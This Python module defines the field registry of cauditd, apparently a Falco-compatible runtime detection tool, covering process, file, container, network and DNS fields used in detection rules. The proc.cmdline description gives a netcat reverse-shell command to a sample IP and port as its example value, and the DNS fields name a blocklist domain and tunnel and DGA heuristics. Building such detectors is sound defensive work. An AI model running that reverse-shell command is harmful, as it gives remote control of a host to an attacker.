"""The field registry: every field a condition or an output may name, with its extractor.

One table serves the parser (unknown fields), the compiler (types and extractors), the docs
(`docs/rules.md`) and `cauditd fields`. An extractor returns None when the event lacks the field.
Each field is Falco's (same name and meaning, `falco=True`) or cauditd's own. This module holds
the registry and the event, process, file and container basics; fields_socket, fields_process
and fields_container register the rest when this module is imported.
"""

from __future__ import annotations

import enum
import errno
import ipaddress
import math
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from cauditd.events import (
    DnsEvent,
    Event,
    ExecEvent,
    ExitEvent,
    FdEvent,
    FileEvent,
    FlowEvent,
    ForkEvent,
    NetSyscallEvent,
    NetworkEvent,
    ProcessInfo,
    SyscallEvent,
)
from cauditd.probes import catalog
from cauditd.rules import args

Extractor = Callable[[Event], Any]
EventClasses = tuple[type[Event], ...]


class FieldType(enum.Enum):
    """What a field's values are; decides which operators and literals a check accepts."""

    STRING = "string"
    INT = "int"
    FLOAT = "float"
    BOOL = "bool"
    IPADDR = "ipaddr"
    IPLIST = "ipaddr list"
    LIST = "string list"
    INTLIST = "int list"
    DYN = "int or string"


NUMERIC = (FieldType.INT, FieldType.FLOAT, FieldType.DYN)


@dataclass(frozen=True, slots=True)
class Field:
    """One field: `name` as rules spell it, its type, doc text, event classes and extractor.

    `arg` is "index" for fields taking `[N]` (proc.aname[2]), "key" for `[text]`
    (proc.env[HOME]), "name" for `.<name>` suffixes (evt.arg.request, and evt.arg[N]);
    `volatile` fields (pids, byte counts) are left out of suppression keys; `falco` says the
    field is Falco's (same name, same meaning), else it is cauditd's own.
    """

    name: str
    type: FieldType
    description: str
    events: EventClasses
    extract: Extractor
    arg: str = ""
    volatile: bool = False
    make: Callable[[str], Extractor] | None = None
    falco: bool = True

    def extractor(self, arg: str | None) -> Extractor:
        """The extractor for this field with its argument (N of proc.aname[N], evt.arg.<name>)."""
        if arg is None or self.make is None:
            return self.extract
        return self.make(arg)


FIELDS: dict[str, Field] = {}

_FAMILY_EVENTS: dict[str, type[SyscallEvent]] = {
    "file": FileEvent, "net": NetSyscallEvent, "fd": FdEvent, "priv": SyscallEvent,
    "process": SyscallEvent,
}
_PROCESS_EVENTS: dict[str, type[SyscallEvent]] = {
    **dict.fromkeys(("execve", "execveat"), ExecEvent),
    **dict.fromkeys(("clone", "fork", "vfork", "clone3"), ForkEvent),
}
_REPORTED_AS = {name for names in catalog.EVENT_ALIASES.values() for name in names}


def _syscall_types() -> dict[str, type[SyscallEvent]]:
    """evt.type names of the syscall source and their event classes, from the probes' one
    catalog (cauditd.probes.catalog): every syscall the probes report is nameable."""
    types: dict[str, type[SyscallEvent]] = {}
    for spec in catalog.SYSCALLS:
        if spec.name not in _REPORTED_AS:
            types[spec.name] = _PROCESS_EVENTS.get(spec.name, _FAMILY_EVENTS[spec.family])
    types.update(dict.fromkeys(catalog.EVENT_ALIASES, ExitEvent))
    return types


SYSCALL_TYPES: dict[str, type[SyscallEvent]] = _syscall_types()
NETWORK_TYPES: dict[str, type[NetworkEvent]] = {
    "flow_new": FlowEvent,
    "flow_end": FlowEvent,
    "dns_query": DnsEvent,
    "dns_response": DnsEvent,
}
EVENT_TYPES: dict[str, dict[str, Any]] = {"syscall": SYSCALL_TYPES, "network": NETWORK_TYPES}

ALL: tuple[type[Event], ...] = (Event,)
SYS: tuple[type[Event], ...] = (SyscallEvent,)
NET: tuple[type[Event], ...] = (NetworkEvent,)
SOCK: tuple[type[Event], ...] = (NetSyscallEvent, FdEvent, NetworkEvent)  # FdEvent: dups


def _field(
    name: str,
    ftype: FieldType,
    events: tuple[type[Event], ...],
    description: str,
    *,
    arg: str = "",
    volatile: bool = False,
    make: Callable[[str], Extractor] | None = None,
    falco: bool = True,
) -> Callable[[Extractor], Extractor]:
    """Register the decorated extractor as field `name` (see Field)."""

    def register(extract: Extractor) -> Extractor:
        FIELDS[name] = Field(name, ftype, description, events, extract, arg, volatile, make,
                             falco)
        return extract

    return register


S, INT, B = FieldType.STRING, FieldType.INT, FieldType.BOOL

# --- evt.* ---------------------------------------------------------------------------------


@_field("evt.type", S, ALL, "Event type: the syscall name (execve, openat, ...), procexit, "
        "flow_new, flow_end, dns_query or dns_response.")
def _evt_type(ev: Event) -> Any:
    return ev.type


@_field("evt.source", S, ALL, 'Event source: "syscall" or "network".')
def _evt_source(ev: Event) -> Any:
    return ev.source


@_field("evt.time", S, ALL, 'Event time of day as Falco prints it: "13:04:05.123456789" '
        "(local time).", volatile=True)
def _evt_time(ev: Event) -> Any:
    seconds, nanos = divmod(ev.wall_ns, 1_000_000_000)
    return time.strftime("%H:%M:%S", time.localtime(seconds)) + f".{nanos:09d}"


@_field("evt.rawtime", INT, ALL, "Event time, nanoseconds since the epoch.", volatile=True)
def _evt_rawtime(ev: Event) -> Any:
    return ev.wall_ns


@_field("evt.num", INT, ALL, "Falco's event sequence number. cauditd does not number events: "
        "always <NA> (so Falco's `never_true` macro, evt.num=0, never matches).", volatile=True)
def _evt_num(ev: Event) -> Any:
    return None


@_field("evt.dir", S, ALL, 'Always "<": cauditd reports completed events (for Falco macros).')
def _evt_dir(ev: Event) -> Any:
    return "<"


@_field("evt.rawres", INT, SYS, "Return value of the syscall as a number.", volatile=True)
def _evt_rawres(ev: Event) -> Any:
    return ev.ret if isinstance(ev, SyscallEvent) else None


@_field("evt.res", S, SYS, 'Return value as Falco prints it: "SUCCESS" for >= 0, else the '
        'errno name ("ENOENT", "EPERM", ...).')
def _evt_res(ev: Event) -> Any:
    if not isinstance(ev, SyscallEvent):
        return None
    return "SUCCESS" if ev.ret >= 0 else errno.errorcode.get(-ev.ret, str(ev.ret))


@_field("evt.failed", B, SYS, "True when the syscall returned an error.")
def _evt_failed(ev: Event) -> Any:
    return ev.ret < 0 if isinstance(ev, SyscallEvent) else None


OPEN_TYPES = frozenset(("open", "openat", "openat2", "creat"))
O_ACCMODE, O_WRONLY, O_RDWR = 0o3, 0o1, 0o2


@_field("evt.is_open_read", B, (FileEvent,), "True for an open that can read "
        "(O_RDONLY or O_RDWR).")
def _is_open_read(ev: Event) -> Any:
    if not isinstance(ev, FileEvent) or ev.type not in OPEN_TYPES:
        return None
    return ev.type != "creat" and (ev.flags & O_ACCMODE) in (0, O_RDWR)


@_field("evt.is_open_write", B, (FileEvent,), "True for an open that can write "
        "(O_WRONLY, O_RDWR, or creat).")
def _is_open_write(ev: Event) -> Any:
    if not isinstance(ev, FileEvent) or ev.type not in OPEN_TYPES:
        return None
    return ev.type == "creat" or (ev.flags & O_ACCMODE) in (O_WRONLY, O_RDWR)


O_CREAT, EXEC_BITS = 0o100, 0o111


@_field("evt.is_open_exec", B, (FileEvent,), "True for an open or creat that creates a file "
        "with an execute bit in its mode.")
def _is_open_exec(ev: Event) -> Any:
    if not isinstance(ev, FileEvent) or ev.type not in OPEN_TYPES:
        return None
    creates = ev.type == "creat" or bool(ev.flags & O_CREAT)
    return creates and bool(ev.mode & EXEC_BITS)


def _make_arg(raw: bool) -> Callable[[str], Extractor]:
    def make(name: str) -> Extractor:
        if name.isdigit():
            index = int(name)
            return lambda ev: args.arg_at(ev, index, raw=raw)
        return lambda ev: args.arg_value(ev, name, raw=raw)

    return make


def _no_arg(ev: Event) -> Any:
    return None


FIELDS["evt.arg"] = Field(
    "evt.arg", FieldType.DYN,
    "A syscall argument by Falco's name (evt.arg.request, evt.arg.flags, evt.arg.domain, "
    "evt.arg.mode, ...) or position (evt.arg[0], in Falco's order: res or fd first). Flags and "
    'enums print by name as in Falco ("O_TRUNC|O_CREAT|O_WRONLY", "AF_PACKET", '
    '"PTRACE_ATTACH", "CLONE_NEWNS", "BIND|REC", modes "S_IXOTH|...|S_ISUID"): test them with '
    "contains; `=` also takes the number. cauditd's own names work too: evt.arg.nstype, "
    "evt.arg.oldfd_is_socket, evt.arg.newfd, evt.arg.source, evt.arg.target, evt.arg.fstype, "
    "evt.arg.newpath, evt.arg.linkpath; evt.arg.compat (true for a 32-bit syscall made through "
    "int 0x80, already mapped to the x86_64 syscall it is) and evt.arg.io_uring (true for an "
    "open, connect, accept, send with an address, rename, unlink, mkdir, symlink or link "
    "submitted through an io_uring ring).",
    SYS, _no_arg, arg="name", make=_make_arg(False),
)
FIELDS["evt.rawarg"] = Field(
    "evt.rawarg", FieldType.DYN,
    "A syscall argument as its number (evt.rawarg.mode, evt.rawarg.flags): Linux's value, "
    "where Falco gives its drivers' own encoding of flags.",
    SYS, _no_arg, arg="name", make=_make_arg(True),
)


@_field("evt.args", S, SYS, 'Every argument as Falco prints them: "res=0 fd=3 '
        'domain=17(AF_PACKET) ...".')
def _evt_args(ev: Event) -> Any:
    return args.all_args(ev)


@_field("evt.buffer", S, SYS, "The data of a read or write. cauditd does not capture I/O "
        "data: always <NA> (a condition on it never matches).")
def _evt_buffer(ev: Event) -> Any:
    return None


# --- proc.* --------------------------------------------------------------------------------


def _proc(ev: Event) -> ProcessInfo | None:
    return ev.process if isinstance(ev, SyscallEvent) else None


def _parent(ev: Event) -> ProcessInfo | None:
    proc = _proc(ev)
    return proc.parent if proc is not None else None


def _basename(path: str) -> str:
    return path.rsplit("/", 1)[-1]


@_field("proc.pid", INT, SYS, "Process id (host pid namespace).", volatile=True)
def _proc_pid(ev: Event) -> Any:
    return ev.pid if isinstance(ev, SyscallEvent) else None


@_field("proc.ppid", INT, SYS, "Parent process id.", volatile=True)
def _proc_ppid(ev: Event) -> Any:
    proc = _proc(ev)
    return proc.ppid or None if proc is not None else None


@_field("proc.name", S, SYS, "Process name as the kernel keeps it (the comm, at most 15 "
        'characters: "unattended-upgr"), as in Falco; except that a program run by a directly '
        "executed dynamic loader (`ld.so /opt/dyn/nc`) or a busybox or toybox applet is named "
        "by what runs, not by the file exec'd (`busybox sh` is sh; /bin/sh exec'd with argv[0] "
        '"nc" is nc; Falco says busybox and sh).')
def _proc_name(ev: Event) -> Any:
    proc = _proc(ev)
    if proc is not None and proc.name:
        return proc.name
    return ev.comm or None if isinstance(ev, SyscallEvent) else None


def _argv(ev: Event) -> tuple[str, ...] | None:
    if isinstance(ev, ExecEvent):
        return ev.argv
    proc = _proc(ev)
    return proc.args if proc is not None else None


@_field("proc.exe", S, SYS, "First command-line argument (argv[0]), as in Falco; "
        "the path when argv is unknown.")
def _proc_exe(ev: Event) -> Any:
    argv = _argv(ev)
    return argv[0] if argv else _proc_exepath(ev)


@_field("proc.exepath", S, SYS, "Full path of the executable.")
def _proc_exepath(ev: Event) -> Any:
    if isinstance(ev, ExecEvent):
        return ev.exe or None
    proc = _proc(ev)
    return proc.exe or None if proc is not None else None


@_field("proc.cmdline", S, SYS, 'Name and arguments: "nc -e /bin/sh 10.0.0.1 4444".')
def _proc_cmdline(ev: Event) -> Any:
    argv = _argv(ev)
    name = _proc_name(ev)
    if name is None:
        return None
    return " ".join((name, *argv[1:])) if argv else name


@_field("proc.args", S, SYS, "Arguments after argv[0], joined by spaces.")
def _proc_args(ev: Event) -> Any:
    argv = _argv(ev)
    if argv is None:
        return None
    return " ".join(argv[1:])


@_field("proc.cwd", S, SYS, 'Working directory, ending in "/" as in Falco ("/srv/"; exec '
        "events, or as the process table knows).")
def _proc_cwd(ev: Event) -> Any:
    cwd = ev.cwd if isinstance(ev, ExecEvent) and ev.cwd else None
    if cwd is None:
        proc = _proc(ev)
        cwd = proc.cwd or None if proc is not None else None
    if cwd is None:
        return None
    return cwd if cwd.endswith("/") else cwd + "/"


@_field("proc.tty", INT, SYS, "Controlling terminal number; 0 when none.")
def _proc_tty(ev: Event) -> Any:
    if isinstance(ev, ExecEvent):
        return ev.tty
    proc = _proc(ev)
    return proc.tty if proc is not None else None


@_field("proc.is_exe_upper_layer", B, SYS, "The executable lives in the container's writable "
        "(upper) layer: it was written after the container started.")
def _proc_upper(ev: Event) -> Any:
    if isinstance(ev, ExecEvent):
        return ev.is_exe_upper_layer
    proc = _proc(ev)
    return proc.is_exe_upper_layer if proc is not None else None


@_field("proc.is_exe_from_memfd", B, SYS, "The executable is a memfd (fileless execution).")
def _proc_memfd(ev: Event) -> Any:
    if isinstance(ev, ExecEvent):
        return ev.is_exe_from_memfd
    proc = _proc(ev)
    return proc.is_exe_from_memfd if proc is not None else None


@_field("proc.is_container_init", B, SYS, "The process is the container's first process "
        "(its entrypoint, pid 1 inside the container); proc.vpid = 1 says the same.",
        falco=False)
def _proc_init(ev: Event) -> Any:
    if not isinstance(ev, SyscallEvent):
        return None
    return ev.container.pid != 0 and ev.pid == ev.container.pid


@_field("proc.pname", S, SYS, "Name of the parent process.")
def _proc_pname(ev: Event) -> Any:
    parent = _parent(ev)
    return parent.name if parent is not None else None


@_field("proc.pexe", S, SYS, "argv[0] of the parent process.")
def _proc_pexe(ev: Event) -> Any:
    parent = _parent(ev)
    if parent is None:
        return None
    return parent.args[0] if parent.args else parent.exe or None


@_field("proc.pexepath", S, SYS, "Full executable path of the parent process.")
def _proc_pexepath(ev: Event) -> Any:
    parent = _parent(ev)
    return parent.exe or None if parent is not None else None


@_field("proc.pcmdline", S, SYS, "Command line of the parent process.")
def _proc_pcmdline(ev: Event) -> Any:
    parent = _parent(ev)
    return parent.cmdline if parent is not None else None


def _make_aname(arg: str) -> Extractor:
    level = int(arg)

    def extract(ev: Event) -> Any:
        if level == 0:
            return _proc_name(ev)
        proc = _proc(ev)
        ancestor = proc.ancestor(level) if proc is not None else None
        return ancestor.name if ancestor is not None else None

    return extract


@_field("proc.aname", FieldType.LIST, SYS, "Name of an ancestor: proc.aname[1] is the parent, "
        "proc.aname[2] the grandparent; without an index, every ancestor (any one may match).",
        arg="index", make=_make_aname)
def _proc_anames(ev: Event) -> Any:
    proc = _proc(ev)
    return tuple(p.name for p in proc.ancestors()) if proc is not None else None


def _make_apid(arg: str) -> Extractor:
    level = int(arg)

    def extract(ev: Event) -> Any:
        proc = _proc(ev)
        ancestor = proc.ancestor(level) if proc is not None else None
        return ancestor.pid if ancestor is not None else None

    return extract


FIELDS["proc.apid"] = Field(
    "proc.apid", INT, "Pid of an ancestor: proc.apid[1] is the parent.", SYS,
    _make_apid("1"), arg="index", volatile=True, make=_make_apid,
)

# --- user / group --------------------------------------------------------------------------


@_field("user.uid", INT, SYS, "User id of the process.")
def _user_uid(ev: Event) -> Any:
    return ev.uid if isinstance(ev, SyscallEvent) else None


@_field("group.gid", INT, SYS, "Group id of the process.")
def _group_gid(ev: Event) -> Any:
    return ev.gid if isinstance(ev, SyscallEvent) else None


# --- fd.* ----------------------------------------------------------------------------------


def _endpoint(addr: str, port: int) -> str:
    return f"[{addr}]:{port}" if ":" in addr else f"{addr}:{port}"


@_field("fd.name", S, (FileEvent, *SOCK), "File path, or ip:port of the peer for sockets "
        '("sip:sport->dip:dport" for flows). For an open, the file the kernel opened, resolved '
        "through symlinks, the dirfd, the cwd, /proc/<pid>/root and mounts; see fd.nameraw.")
def _fd_name(ev: Event) -> Any:
    if isinstance(ev, FileEvent):
        return ev.path or None
    if isinstance(ev, FdEvent):
        return _endpoint(ev.addr, ev.port) if ev.addr else None
    if isinstance(ev, NetSyscallEvent):
        if ev.family == 1:
            return ev.addr or None
        return _endpoint(ev.addr, ev.port) if ev.addr else None
    if isinstance(ev, NetworkEvent):
        return f"{_endpoint(ev.sip, ev.sport)}->{_endpoint(ev.dip, ev.dport)}"
    return None


@_field("fd.directory", S, (FileEvent,), "Directory of fd.name (no trailing slash).")
def _fd_directory(ev: Event) -> Any:
    if not isinstance(ev, FileEvent) or not ev.path:
        return None
    head = ev.path.rsplit("/", 1)[0]
    return head or "/"


@_field("fd.filename", S, (FileEvent,), "Last component of fd.name.")
def _fd_filename(ev: Event) -> Any:
    return _basename(ev.path) or None if isinstance(ev, FileEvent) and ev.path else None


_FILE_KINDS = {0o010000: "pipe", 0o040000: "directory"}


def _fd_kind(ev: Event) -> str | None:
    if isinstance(ev, FileEvent):
        return _FILE_KINDS.get(ev.file_mode & 0o170000, "file")
    if isinstance(ev, FdEvent):
        return ev.kind or None
    if isinstance(ev, NetSyscallEvent):
        return {1: "unix", 2: "ipv4", 10: "ipv6"}.get(ev.family)
    if isinstance(ev, NetworkEvent):
        return "ipv6" if ":" in ev.sip else "ipv4"
    return None


@_field("fd.type", S, (FileEvent, *SOCK), 'Kind of descriptor: "file", "directory", "pipe" '
        '(pipes and FIFOs), "ipv4", "ipv6", "unix", "netlink". On dup/dup2/dup3/fcntl events, '
        "what the fd placed on fd 0-2 is, as the kernel's fd table says.")
def _fd_type(ev: Event) -> Any:
    return _fd_kind(ev)


_TYPECHARS = {"file": "f", "directory": "d", "pipe": "p", "ipv4": "4", "ipv6": "6", "unix": "u",
              "netlink": "n"}


@_field("fd.typechar", S, (FileEvent, *SOCK), 'Kind as one letter: "f", "d", "p", "4", "6", '
        '"u", "n".')
def _fd_typechar(ev: Event) -> Any:
    kind = _fd_kind(ev)
    return _TYPECHARS.get(kind) if kind else None


@_field("fd.num", INT, (FileEvent, FdEvent, NetSyscallEvent), "File descriptor number (the fd "
        "an open returned, -1 when it failed, as in Falco; the fd a dup placed; or the socket of "
        "a connect/bind/...).", volatile=True)
def _fd_num(ev: Event) -> Any:
    if isinstance(ev, NetSyscallEvent | FdEvent):
        return ev.fd
    if isinstance(ev, FileEvent) and ev.type in OPEN_TYPES:
        return ev.ret if ev.ret >= 0 else -1
    return None


# --- container / k8s -----------------------------------------------------------------------


@_field("container.id", S, ALL, 'Short container id (12 characters), or "host".')
def _container_id(ev: Event) -> Any:
    return ev.container.short_id


@_field("container.full_id", S, ALL, 'Full container id, or "host".')
def _container_full_id(ev: Event) -> Any:
    return ev.container.id


@_field("container.name", S, ALL, 'Container name ("host" on the host).')
def _container_name(ev: Event) -> Any:
    return ev.container.name or None


@_field("container.image", S, ALL, 'Image as the runtime names it, e.g. "nginx:1.25".')
def _container_image(ev: Event) -> Any:
    return ev.container.image or None


@_field("container.image.repository", S, ALL, 'Image without its tag, e.g. "nginx".')
def _container_repo(ev: Event) -> Any:
    return ev.container.image_repository or None


@_field("container.image.tag", S, ALL, 'Image tag, e.g. "1.25".')
def _container_tag(ev: Event) -> Any:
    return ev.container.image_tag or None


@_field("container.privileged", B, ALL, "The container runs privileged.")
def _container_privileged(ev: Event) -> Any:
    return None if ev.container.is_host else ev.container.privileged


@_field("k8s.pod.name", S, ALL, "Kubernetes pod name (from the container's labels).")
def _k8s_pod(ev: Event) -> Any:
    return ev.container.pod_name or None


@_field("k8s.ns.name", S, ALL, "Kubernetes namespace (from the container's labels).")
def _k8s_ns(ev: Event) -> Any:
    return ev.container.pod_namespace or None


# --- network source: net.* and dns.* ------------------------------------------------------


@_field("net.direction", S, NET, '"egress" (from the container) or "ingress" (to it).',
        falco=False)
def _net_direction(ev: Event) -> Any:
    return ev.direction or None if isinstance(ev, NetworkEvent) else None


@_field("net.bytes", INT, (FlowEvent,), "Bytes of the flow so far (totals on flow_end).",
        volatile=True,
        falco=False)
def _net_bytes(ev: Event) -> Any:
    return ev.bytes if isinstance(ev, FlowEvent) else None


@_field("net.packets", INT, (FlowEvent,), "Packets of the flow so far.", volatile=True,
        falco=False)
def _net_packets(ev: Event) -> Any:
    return ev.packets if isinstance(ev, FlowEvent) else None


@_field("net.connections", INT, (FlowEvent,), "Connections a client opened to a port the "
        "container serves, counted in this aggregated flow (flow_end; 0 for a flow of one "
        "connection: see docs/network.md).", volatile=True, falco=False)
def _net_connections(ev: Event) -> Any:
    return ev.connections if isinstance(ev, FlowEvent) else None


@_field("net.peer_names", FieldType.LIST, (FlowEvent,), "DNS names the container resolved "
        "to the peer address (any one may match).",
        falco=False)
def _net_peer_names(ev: Event) -> Any:
    return ev.peer_names if isinstance(ev, FlowEvent) else None


@_field("net.port_first_seen", B, (FlowEvent,), "An inbound flow (flow_new, ingress) to a "
        "port the container listens on now but did not in its learning period "
        "(network.inbound_learning_s after it was attached) and never took a connection on "
        "since: true once per new port.",
        falco=False)
def _net_port_first_seen(ev: Event) -> Any:
    return ev.port_first_seen if isinstance(ev, FlowEvent) else None


def _qname(ev: Event) -> str | None:
    return ev.qname.rstrip(".").lower() or None if isinstance(ev, DnsEvent) else None


@_field("dns.qname", S, (DnsEvent,), "Queried name, lower case, without the trailing dot.",
        falco=False)
def _dns_qname(ev: Event) -> Any:
    return _qname(ev)


@_field("dns.qname_suffixes", FieldType.LIST, (DnsEvent,), 'The name and every parent domain: '
        '"a.evil.com" gives a.evil.com, evil.com, com (for blocklists with intersects).',
        falco=False)
def _dns_suffixes(ev: Event) -> Any:
    name = _qname(ev)
    if name is None:
        return None
    labels = name.split(".")
    return tuple(".".join(labels[i:]) for i in range(len(labels)))


@_field("dns.qname_len", INT, (DnsEvent,), "Length of the queried name.",
        falco=False)
def _dns_len(ev: Event) -> Any:
    name = _qname(ev)
    return len(name) if name is not None else None


@_field("dns.qname_labels", INT, (DnsEvent,), "Number of labels in the queried name.",
        falco=False)
def _dns_labels(ev: Event) -> Any:
    name = _qname(ev)
    return name.count(".") + 1 if name is not None else None


@_field("dns.qname_longest_label", INT, (DnsEvent,), "Length of the longest label (tunnels "
        "pack data into long labels).",
        falco=False)
def _dns_longest(ev: Event) -> Any:
    name = _qname(ev)
    return max(len(label) for label in name.split(".")) if name is not None else None


def shannon_entropy(text: str) -> float:
    """Shannon entropy of `text` in bits per character."""
    if not text:
        return 0.0
    total = len(text)
    return -sum(n / total * math.log2(n / total) for n in Counter(text).values())


@_field("dns.qname_entropy", FieldType.FLOAT, (DnsEvent,), "Shannon entropy (bits/char) of the "
        "longest label: random DGA labels score about 3.5 and more, words about 2.5-3.",
        falco=False)
def _dns_entropy(ev: Event) -> Any:
    name = _qname(ev)
    if name is None:
        return None
    return shannon_entropy(max(name.split("."), key=len))


@_field("dns.qtype", S, (DnsEvent,), 'Query type: "A", "AAAA", "TXT", "NULL", ...',
        falco=False)
def _dns_qtype(ev: Event) -> Any:
    return ev.qtype.upper() or None if isinstance(ev, DnsEvent) else None


@_field("dns.rcode", S, (DnsEvent,), 'Response code of a dns_response: "NOERROR", "NXDOMAIN", ...',
        falco=False)
def _dns_rcode(ev: Event) -> Any:
    return ev.rcode.upper() or None if isinstance(ev, DnsEvent) else None


@_field("dns.answers", FieldType.LIST, (DnsEvent,), "Addresses and names in the answer "
        "(any one may match).",
        falco=False)
def _dns_answers(ev: Event) -> Any:
    return ev.answers if isinstance(ev, DnsEvent) else None


# --- lookups used by the parser, compiler and docs ----------------------------------------


def lookup(name: str) -> tuple[Field, str | None] | None:
    """Resolve `proc.aname[2]`, `proc.env[HOME]`, `evt.arg[0]` or `evt.arg.request` to
    (field, argument); None if unknown."""
    if name in FIELDS:
        return FIELDS[name], None
    base, bracket, rest = name.partition("[")
    if bracket and rest.endswith("]") and base in FIELDS:
        field, arg = FIELDS[base], _unquote(rest[:-1])
        if field.arg == "key":
            return (field, arg) if arg else None
        # an index: proc.aname[2]; evt.arg[0] is the syscall's argument by position
        return (field, arg) if field.arg in ("index", "name") and arg.isdigit() else None
    for prefix in ("evt.arg.", "evt.rawarg."):
        if name.startswith(prefix) and len(name) > len(prefix):
            return FIELDS[prefix[:-1]], name[len(prefix):]
    return None


def _unquote(text: str) -> str:
    if len(text) >= 2 and text[0] in "\"'" and text[-1] == text[0]:
        return text[1:-1]
    return text


def field_type(field: Field, arg: str | None) -> FieldType:
    """The type of `field` with its argument (an indexed ancestor is one name, not a list)."""
    if field.arg == "index" and arg is not None and field.type is FieldType.LIST:
        return FieldType.STRING
    return field.type


def event_names(events: tuple[type[Event], ...]) -> str:
    """Event classes as docs print them."""
    return ", ".join(cls.__name__ for cls in events)


FAMILIES = ("evt", "proc", "thread", "user", "group", "fd", "container", "k8s", "net", "dns")


def listed() -> list[Field]:
    """The fields as docs list them: by family (evt, proc, ...), each in registry order."""
    order = {family: i for i, family in enumerate(FAMILIES)}
    return sorted(FIELDS.values(), key=lambda f: order.get(f.name.split(".")[0], len(order)))


def origin(field: Field) -> str:
    return "Falco" if field.falco else "cauditd only"


def format_fields() -> str:
    """The field table as `cauditd fields` prints it."""
    width = max(len(_doc_name(f)) for f in FIELDS.values())
    lines = []
    for field in listed():
        lines.append(f"{_doc_name(field):<{width}}  {field.type.value:<12}  {field.description}")
        lines.append(f"{'':<{width}}  {'':<12}  events: {event_names(field.events)}; "
                     f"{origin(field)}")
    return "\n".join(lines)


def _doc_name(field: Field) -> str:
    if field.arg == "index":
        return f"{field.name}[N]"
    if field.arg == "key":
        return f"{field.name}[KEY]"
    if field.arg == "name":
        return f"{field.name}.<name>"
    return field.name


def markdown_table() -> str:
    """The field table of docs/rules.md, generated from the registry."""
    rows = ["| Field | Type | Events | Origin | Description |", "| --- | --- | --- | --- | --- |"]
    for field in listed():
        desc = field.description.replace("|", "\\|")
        rows.append(f"| `{_doc_name(field)}` | {field.type.value} | {event_names(field.events)} "
                    f"| {origin(field)} | {desc} |")
    return "\n".join(rows)


def canonical_net(net: Any) -> Any:
    """A network as rules compare it: v4-mapped IPv6 (::ffff:a.b.c.d/n, n >= 96) as IPv4."""
    if isinstance(net, ipaddress.IPv6Network) and net.prefixlen >= 96:
        mapped = net.network_address.ipv4_mapped
        if mapped is not None:
            return ipaddress.IPv4Network((mapped, net.prefixlen - 96))
    return net


@lru_cache(maxsize=65536)
def parse_ip(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
    """An address from event text; None when it is not one. A v4-mapped IPv6 address
    (::ffff:a.b.c.d) is the IPv4 address it carries, so lists and CIDRs of IPv4 meet it."""
    try:
        address = ipaddress.ip_address(text.split("%", 1)[0])
    except ValueError:
        return None
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        return address.ipv4_mapped
    return address


# The rest of the registry: imported last, they register into FIELDS through _field.
from cauditd.rules import (  # noqa: E402, F401
    fields_container,
    fields_kernel,
    fields_process,
    fields_socket,
)
